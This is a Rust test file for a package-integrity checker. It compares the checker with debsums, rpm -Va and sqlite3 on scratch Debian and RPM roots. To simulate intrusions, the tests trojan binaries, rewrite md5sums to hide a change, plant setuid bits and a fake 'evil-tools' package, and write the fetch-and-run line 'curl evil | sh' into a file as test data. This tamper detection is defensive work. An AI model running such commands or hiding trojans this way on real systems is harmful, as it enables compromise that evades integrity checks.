//! `rescue::pkgdb` on real roots (issue 18), cross-checked with tools no one here wrote: on a Debian
//! 12 debootstrap root, `debsums --root` reports the same changed package files as `pkgdb::verify`
//! after the test modified some (and none on the clean root); on a RHEL-like root whose rpmdb Debian's
//! `rpm` made, `rpm --root … -Va` does.

#[path = "common/pkgroots.rs"]
mod pkgroots;

use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::Instant;

use rescue::pkgdb::{self, Change, DbKind};

/// The changed files debsums reports: `-c` lists changed files on stdout, missing ones are
/// "missing file X (from P package)" on stderr; both with the root in front.
fn debsums_changed(root: &Path) -> BTreeSet<String> {
    let prefix = root.to_string_lossy().into_owned();
    let strip = |p: &str| p.strip_prefix(prefix.as_str()).unwrap_or(p).to_owned();
    let o = Command::new("debsums")
        .args(["-a", "-c", "--root"])
        .arg(root)
        .output()
        .unwrap();
    let mut out: BTreeSet<String> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(strip)
        .collect();
    for line in String::from_utf8_lossy(&o.stderr).lines() {
        if let Some(rest) = line.split("missing file ").nth(1) {
            out.insert(strip(rest.split(" (from ").next().unwrap()));
        } else {
            panic!("debsums said something unexpected: {line}");
        }
    }
    out
}

fn pkgdb_changed(root: &Path) -> (BTreeSet<String>, Vec<pkgdb::Changed>) {
    let db = pkgdb::open(root).unwrap().expect("a package database");
    let changed = db.verify(root, &mut |_| {}).unwrap();
    let set = changed
        .iter()
        .map(|c| c.path.to_string_lossy().into_owned())
        .collect();
    (set, changed)
}

#[test]
fn debian_root_changes_agree_with_debsums() {
    const NAME: &str = "debian_root_changes_agree_with_debsums";
    if !pkgroots::have("debsums") && !pkgroots::skip(NAME, "debsums is not installed") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    if pkgroots::debian12_root(NAME, root).is_none() {
        return;
    }

    let db = pkgdb::open(root).unwrap().expect("dpkg database");
    assert_eq!(db.kind(), DbKind::Dpkg);
    assert!(
        db.packages().len() > 100,
        "{} packages",
        db.packages().len()
    );
    // /usr-merged: dpkg lists /bin/ls, the file is /usr/bin/ls; both spellings find the owner.
    assert_eq!(db.owner(Path::new("/usr/bin/ls")), Some("coreutils"));
    assert_eq!(db.owner(Path::new("/bin/ls")), Some("coreutils"));
    assert_eq!(
        db.owner(Path::new("/usr/lib/x86_64-linux-gnu/libc.so.6")),
        Some("libc6:amd64"),
        "a Multi-Arch: same package is named with its architecture"
    );
    // dash diverts /bin/sh to /bin/sh.distrib for other packages and ships /bin/sh itself.
    assert_eq!(db.owner(Path::new("/bin/sh")), Some("dash"));
    // Made by a maintainer script, not shipped: no owner.
    assert_eq!(db.owner(Path::new("/etc/passwd")), None);
    assert_eq!(db.owner(Path::new("/usr/bin/planted")), None);

    let (clean, _) = pkgdb_changed(root);
    let ds_clean = debsums_changed(root);
    assert_eq!(clean, ds_clean, "on the clean root");
    assert!(clean.is_empty(), "a fresh debootstrap root: {clean:?}");

    // The attacker's work: a trojaned binary, a library cut short, a deleted tool, a symlink planted
    // where a binary was, a changed conffile, a mode change on a stat-overridden file.
    let ls = root.join("usr/bin/ls");
    let mut bytes = std::fs::read(&ls).unwrap();
    bytes.extend_from_slice(b"trojan");
    std::fs::write(&ls, bytes).unwrap();
    let lib = std::fs::read_dir(root.join("usr/lib/x86_64-linux-gnu"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("libpam.so.0."))
        })
        .expect("libpam in the root");
    let len = std::fs::metadata(&lib).unwrap().len();
    std::fs::OpenOptions::new()
        .write(true)
        .open(&lib)
        .unwrap()
        .set_len(len / 2)
        .unwrap();
    std::fs::remove_file(root.join("usr/bin/whoami")).unwrap();
    std::fs::remove_file(root.join("usr/bin/id")).unwrap();
    std::os::unix::fs::symlink("/tmp/.x/id", root.join("usr/bin/id")).unwrap();
    std::fs::write(root.join("etc/debian_version"), "13.0\n").unwrap();
    std::fs::set_permissions(
        root.join("usr/bin/crontab"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();

    let t = Instant::now();
    let (ours, changed) = pkgdb_changed(root);
    let t_ours = t.elapsed();
    let t = Instant::now();
    let theirs = debsums_changed(root);
    let t_debsums = t.elapsed();
    eprintln!(
        "verify: pkgdb {:.2} s, debsums --root {:.2} s",
        t_ours.as_secs_f64(),
        t_debsums.as_secs_f64()
    );
    // debsums does not read statoverride: the crontab mode change is ours alone.
    let mut ours_comparable = ours.clone();
    assert!(ours_comparable.remove("/usr/bin/crontab"), "{ours:?}");
    assert_eq!(ours_comparable, theirs, "pkgdb vs debsums");
    let by_path = |p: &str| changed.iter().find(|c| c.path == Path::new(p)).unwrap();
    assert!(matches!(
        by_path("/bin/ls").changes[..],
        [Change::Digest { .. }]
    ));
    assert!(matches!(
        by_path("/usr/bin/whoami").changes[..],
        [Change::Missing]
    ));
    assert!(matches!(
        by_path("/usr/bin/id").changes[..],
        [Change::FileType { .. }]
    ));
    assert!(by_path("/etc/debian_version").config);
    assert!(!by_path("/bin/ls").config);
    assert_eq!(
        by_path("/usr/bin/crontab").changes,
        [Change::Mode {
            expected: 0o2755,
            found: 0o4755
        }]
    );
    assert_eq!(by_path("/bin/ls").package, "coreutils");
    pkgroots::ran(NAME);
}

#[test]
fn rpm_root_changes_agree_with_rpm_va() {
    const NAME: &str = "rpm_root_changes_agree_with_rpm_va";
    let dir = tempfile::tempdir().unwrap();
    let (root, work) = (dir.path().join("root"), dir.path().join("work"));
    std::fs::create_dir_all(&root).unwrap();
    if pkgroots::rpm_root(NAME, &root, &work).is_none() {
        return;
    }
    let db = pkgdb::open(&root).unwrap().expect("rpmdb");
    assert_eq!(db.kind(), DbKind::Rpm);
    let mut names: Vec<&str> = db.packages().iter().map(|p| p.name.as_str()).collect();
    names.sort();
    assert_eq!(names, ["rescue-daemon", "rescue-libs", "rescue-tools"]);
    assert_eq!(
        db.owner(Path::new("/usr/bin/rt-hello")),
        Some("rescue-tools")
    );
    assert_eq!(db.owner(Path::new("/bin/rt-hello")), Some("rescue-tools"));
    assert_eq!(db.owner(Path::new("/var/lib/rtd")), Some("rescue-daemon"));
    assert_eq!(db.owner(Path::new("/etc/passwd")), None);
    let (clean, _) = pkgdb_changed(&root);
    assert_eq!(clean, pkgroots::rpm_va_changed(&root), "on the clean root");
    assert!(clean.is_empty(), "freshly installed: {clean:?}");

    let append = |p: &str, extra: &[u8]| {
        let path = root.join(p);
        let mut b = std::fs::read(&path).unwrap();
        b.extend_from_slice(extra);
        std::fs::write(&path, b).unwrap();
    };
    append("usr/bin/rt-hello", b"curl evil | sh\n");
    append("etc/rt.conf", b"backdoor = 1\n");
    // Same size, one byte changed in the middle of the 3 MiB library: only the digest tells.
    let lib = root.join("usr/lib64/librt-demo.so.1");
    let mut b = std::fs::read(&lib).unwrap();
    b[1_500_000] ^= 0xff;
    std::fs::write(&lib, b).unwrap();
    let chmod = |p: &str, m: u32| {
        std::fs::set_permissions(root.join(p), std::fs::Permissions::from_mode(m)).unwrap()
    };
    chmod("usr/bin/rt-world", 0o4755);
    chmod("var/lib/rtd", 0o777);
    std::os::unix::fs::chown(root.join("usr/share/rt/data.txt"), Some(65534), None).unwrap();
    std::fs::remove_file(root.join("usr/sbin/rtd")).unwrap();
    std::fs::remove_file(root.join("usr/bin/rt-link")).unwrap();
    std::os::unix::fs::symlink("rt-world", root.join("usr/bin/rt-link")).unwrap();

    let (ours, changed) = pkgdb_changed(&root);
    let theirs = pkgroots::rpm_va_changed(&root);
    assert_eq!(ours, theirs, "pkgdb vs rpm -Va");
    assert_eq!(ours.len(), 8, "{ours:?}");
    let by_path = |p: &str| changed.iter().find(|c| c.path == Path::new(p)).unwrap();
    assert!(by_path("/etc/rt.conf").config);
    assert!(matches!(
        by_path("/usr/lib64/librt-demo.so.1").changes[..],
        [Change::Digest {
            algorithm: pkgdb::DigestAlgo::Sha256,
            ..
        }]
    ));
    assert_eq!(
        by_path("/usr/bin/rt-world").changes,
        [Change::Mode {
            expected: 0o755,
            found: 0o4755
        }]
    );
    assert_eq!(
        by_path("/usr/share/rt/data.txt").changes,
        [Change::User {
            expected: "root".into(),
            found: "nobody".into()
        }]
    );
    assert!(matches!(
        by_path("/usr/bin/rt-link").changes[..],
        [Change::LinkTarget { .. }]
    ));
    assert_eq!(by_path("/usr/sbin/rtd").changes, [Change::Missing]);
    pkgroots::ran(NAME);
}

/// Our SQLite reader against `sqlite3` itself, on what the rpmdb reader meets: a table of rows with
/// large blobs (overflow chains), enough of them for interior pages, and a write-ahead log holding
/// committed transactions not yet checkpointed (rows inserted, updated and deleted after the last
/// checkpoint), copied while the writer still had the database open.
#[test]
fn sqlite_reader_agrees_with_sqlite3_including_the_wal() {
    const NAME: &str = "sqlite_reader_agrees_with_sqlite3_including_the_wal";
    if !pkgroots::have("sqlite3") && !pkgroots::skip(NAME, "sqlite3 is not installed") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("rpmdb.sqlite");
    let copy = dir.path().join("copy.sqlite");
    // Dot commands (`.shell`) must start their line.
    let script = [
        "PRAGMA journal_mode=WAL;",
        "PRAGMA wal_autocheckpoint=0;",
        "CREATE TABLE 'Packages' (hnum INTEGER PRIMARY KEY AUTOINCREMENT,blob BLOB NOT NULL);",
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<300)",
        "  INSERT INTO Packages(blob) SELECT randomblob(x*37 % 9000 + 1) FROM c;",
        "PRAGMA wal_checkpoint(TRUNCATE);",
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<200)",
        "  INSERT INTO Packages(blob) SELECT randomblob(x*53 % 20000 + 1) FROM c;",
        "DELETE FROM Packages WHERE hnum % 7 = 0;",
        "UPDATE Packages SET blob = randomblob(50000) WHERE hnum = 5;",
        &format!(
            ".shell cp {db} {copy} && cp {db}-wal {copy}-wal",
            db = db.display(),
            copy = copy.display()
        ),
        "",
    ]
    .join("\n");
    let mut child = Command::new("sqlite3")
        .arg(&db)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(script.as_bytes())
        .unwrap();
    assert!(child.wait().unwrap().success());
    let wal_len = std::fs::metadata(format!("{}-wal", copy.display()))
        .unwrap()
        .len();
    assert!(wal_len > 0, "the copy has uncheckpointed WAL frames");

    let open = |p: &Path| std::fs::File::open(p).unwrap();
    let reader = pkgdb::sqlite::Sqlite::open(
        open(&copy),
        Some(open(Path::new(&format!("{}-wal", copy.display())))),
    )
    .unwrap();
    let root = reader.table_root("Packages").unwrap().unwrap();
    let mut ours = Vec::new();
    reader
        .for_each_row(root, &mut |rowid, rec| {
            let pkgdb::sqlite::Value::Blob(b) = &rec[1] else {
                panic!("row {rowid}: {rec:?}");
            };
            ours.push(format!("{rowid}|{}", hex_upper(b)));
            Ok(())
        })
        .unwrap();
    // Without its WAL the file holds only what the checkpoint wrote: the WAL was really read.
    let main_only = pkgdb::sqlite::Sqlite::open(open(&copy), None).unwrap();
    let mut rows = 0;
    main_only
        .for_each_row(
            main_only.table_root("Packages").unwrap().unwrap(),
            &mut |_, _| {
                rows += 1;
                Ok(())
            },
        )
        .unwrap();
    assert_eq!(rows, 300);
    // sqlite3 reads the copy (and its WAL) last: closing it checkpoints and removes the WAL.
    let theirs = pkgroots::run(
        Command::new("sqlite3")
            .arg(&copy)
            .arg("SELECT hnum, hex(blob) FROM Packages ORDER BY hnum"),
    );
    let theirs: Vec<String> = String::from_utf8(theirs)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    assert_eq!(ours.len(), 500 - 500 / 7);
    assert!(ours == theirs, "rows differ from sqlite3's");
    pkgroots::ran(NAME);
}

fn hex_upper(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02X}")).collect()
}

/// The attacker rewrote the suspect's own md5sums to hide a trojan, planted a file and listed it as
/// a package's, and registered a package of their own: only the signed metadata shows it.
/// Cross-checked with `debsums --root ROOT DEB…`, which compares the root with the md5sums inside
/// the given `.deb`s.
#[test]
fn debian_root_against_signed_media_agrees_with_debsums_on_the_debs() {
    const NAME: &str = "debian_root_against_signed_media_agrees_with_debsums_on_the_debs";
    let keyring = Path::new("/usr/share/keyrings/debian-archive-keyring.gpg");
    if !keyring.is_file() && !pkgroots::skip(NAME, "debian-archive-keyring is not installed") {
        return;
    }
    if !pkgroots::have("debsums") && !pkgroots::skip(NAME, "debsums is not installed") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir_all(&root).unwrap();
    if pkgroots::debian12_root(NAME, &root).is_none() {
        return;
    }
    // The medium: debootstrap's signed lists and the .debs it installed, moved out of the root.
    let media = dir.path().join("media");
    let debs = pkgroots::media_from_debootstrap_root(&root, &media);
    let keys = rescue::reinstall::signature::load_keys(keyring).unwrap();
    let now = chrono::Utc::now();
    let db = pkgdb::open(&root).unwrap().unwrap();
    let clean =
        pkgdb::media::verify_against_media(&db, &root, &media, &keys, now, &mut |_| {}).unwrap();
    assert_eq!(clean.releases.len(), 1, "{:?}", clean.notes);
    assert!(clean.changed.is_empty(), "{:?}", clean.changed);
    assert!(
        clean.not_in_metadata.is_empty(),
        "{:?}",
        clean.not_in_metadata
    );
    assert!(
        clean.deb_not_on_media.is_empty(),
        "{:?}",
        clean.deb_not_on_media
    );
    assert!(clean.not_shipped.is_empty(), "{:?}", clean.not_shipped);
    assert_eq!(
        clean.packages_checked,
        db.packages().len(),
        "{:?}",
        clean.notes
    );

    // A trojaned ls whose md5sums line was rewritten to match.
    let ls = root.join("usr/bin/ls");
    let mut bytes = std::fs::read(&ls).unwrap();
    bytes.extend_from_slice(b"trojan");
    std::fs::write(&ls, &bytes).unwrap();
    let sums = root.join("var/lib/dpkg/info/coreutils.md5sums");
    let new_md5 = {
        use md5::Digest;
        hex_lower(&md5::Md5::digest(&bytes))
    };
    let text = std::fs::read_to_string(&sums).unwrap();
    let text: String = text
        .lines()
        .map(|l| {
            if l.ends_with("  usr/bin/ls") || l.ends_with("  bin/ls") {
                format!("{new_md5}  {}\n", &l[34..])
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    std::fs::write(&sums, text).unwrap();
    std::fs::write(root.join("etc/debian_version"), "13.0\n").unwrap();
    // A planted binary made to look like coreutils'.
    std::fs::write(root.join("usr/bin/planted"), b"#!/bin/sh\n").unwrap();
    let list = root.join("var/lib/dpkg/info/coreutils.list");
    let mut l = std::fs::read(&list).unwrap();
    l.extend_from_slice(b"/usr/bin/planted\n");
    std::fs::write(&list, l).unwrap();
    // A package of the attacker's own.
    let status = root.join("var/lib/dpkg/status");
    let mut st = std::fs::read(&status).unwrap();
    st.extend_from_slice(
        b"\nPackage: evil-tools\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\n",
    );
    std::fs::write(&status, st).unwrap();
    std::fs::write(
        root.join("var/lib/dpkg/info/evil-tools.list"),
        b"/usr/bin/planted\n",
    )
    .unwrap();

    let db = pkgdb::open(&root).unwrap().unwrap();
    let local = db.verify(&root, &mut |_| {}).unwrap();
    assert!(
        !local.iter().any(|c| c.path == Path::new("/bin/ls")),
        "the rewritten md5sums hide the trojan from the local check"
    );
    let report =
        pkgdb::media::verify_against_media(&db, &root, &media, &keys, now, &mut |_| {}).unwrap();
    let ours: BTreeSet<String> = report
        .changed
        .iter()
        .map(|c| c.path.to_string_lossy().into_owned())
        .collect();
    let prefix = root.to_string_lossy().into_owned();
    let o = Command::new("debsums")
        .args(["-a", "-c", "--root"])
        .arg(&root)
        .args(&debs)
        .output()
        .unwrap();
    let theirs: BTreeSet<String> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| l.strip_prefix(prefix.as_str()).unwrap_or(l).to_owned())
        .collect();
    assert_eq!(
        ours, theirs,
        "pkgdb against the signed debs vs debsums on the debs"
    );
    assert!(ours.contains("/bin/ls"), "{ours:?}");
    let ls = report
        .changed
        .iter()
        .find(|c| c.path == Path::new("/bin/ls"))
        .unwrap();
    assert!(!ls.config && ls.package == "coreutils");
    let dv = report
        .changed
        .iter()
        .find(|c| c.path == Path::new("/etc/debian_version"))
        .unwrap();
    assert!(dv.config, "the .deb's own conffiles mark it");
    assert_eq!(report.not_in_metadata.len(), 1);
    assert_eq!(report.not_in_metadata[0].package.name, "evil-tools");
    let shipped: Vec<(&str, &Path)> = report
        .not_shipped
        .iter()
        .map(|n| (n.package.as_str(), n.path.as_path()))
        .collect();
    assert_eq!(shipped, [("coreutils", Path::new("/usr/bin/planted"))]);
    pkgroots::ran(NAME);
}

fn hex_lower(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

/// The Berkeley DB `Packages` of older RHEL: Debian's rpm no longer writes one, so the fixture's
/// header blobs (from its SQLite rpmdb, read by `sqlite3`) are loaded into a hash database by
/// Berkeley DB's own `db5.3_load` — little- and big-endian, with small pages so headers spill into
/// overflow chains — and pkgdb must read the same packages and files from it as from the SQLite one.
#[test]
fn rpm_berkeley_db_as_db_load_writes_it() {
    const NAME: &str = "rpm_berkeley_db_as_db_load_writes_it";
    for tool in ["db5.3_load", "sqlite3"] {
        if !pkgroots::have(tool) && !pkgroots::skip(NAME, &format!("{tool} is not installed")) {
            return;
        }
    }
    let dir = tempfile::tempdir().unwrap();
    let (root, work) = (dir.path().join("root"), dir.path().join("work"));
    std::fs::create_dir_all(&root).unwrap();
    if pkgroots::rpm_root(NAME, &root, &work).is_none() {
        return;
    }
    let sqlite_db = pkgdb::open(&root).unwrap().unwrap();
    let rows = pkgroots::run(
        Command::new("sqlite3")
            .arg(root.join("var/lib/rpm/rpmdb.sqlite"))
            .arg("SELECT hnum, hex(blob) FROM Packages ORDER BY hnum"),
    );
    let rows = String::from_utf8(rows).unwrap();
    for (order, lorder) in [("little", "1234"), ("big", "4321")] {
        let mut dump = String::from("VERSION=3\nformat=bytevalue\ntype=hash\nHEADER=END\n");
        for line in rows.lines() {
            let (hnum, blob) = line.split_once('|').unwrap();
            let n: u32 = hnum.parse().unwrap();
            let key = if order == "little" {
                n.to_le_bytes()
            } else {
                n.to_be_bytes()
            };
            dump.push_str(&format!(" {}\n {}\n", hex_lower(&key), blob.to_lowercase()));
        }
        dump.push_str("DATA=END\n");
        let input = work.join(format!("dump-{order}"));
        std::fs::write(&input, dump).unwrap();
        std::fs::remove_file(root.join("var/lib/rpm/rpmdb.sqlite")).unwrap_or(());
        let packages = root.join("var/lib/rpm/Packages");
        std::fs::remove_file(&packages).unwrap_or(());
        pkgroots::run(
            Command::new("db5.3_load")
                .args(["-c", "db_pagesize=512", "-c"])
                .arg(format!("db_lorder={lorder}"))
                .arg("-f")
                .arg(&input)
                .arg(&packages),
        );
        let bdb = pkgdb::open(&root).unwrap().unwrap();
        assert_eq!(bdb.location(), Path::new("/var/lib/rpm/Packages"));
        let key = |db: &pkgdb::PackageDb| {
            let mut v: Vec<String> = db
                .files()
                .iter()
                .map(|f| {
                    // The package index follows the database's order (hash order here).
                    let mut g = f.clone();
                    g.package = 0;
                    format!("{} {g:?}", db.package_of(f).name)
                })
                .collect();
            v.sort();
            v
        };
        assert_eq!(
            bdb.packages().len(),
            sqlite_db.packages().len(),
            "{order}-endian"
        );
        assert!(key(&bdb) == key(&sqlite_db), "{order}-endian: files differ");
        assert_eq!(
            bdb.owner(Path::new("/usr/bin/rt-hello")),
            Some("rescue-tools")
        );
    }
    pkgroots::ran(NAME);
}
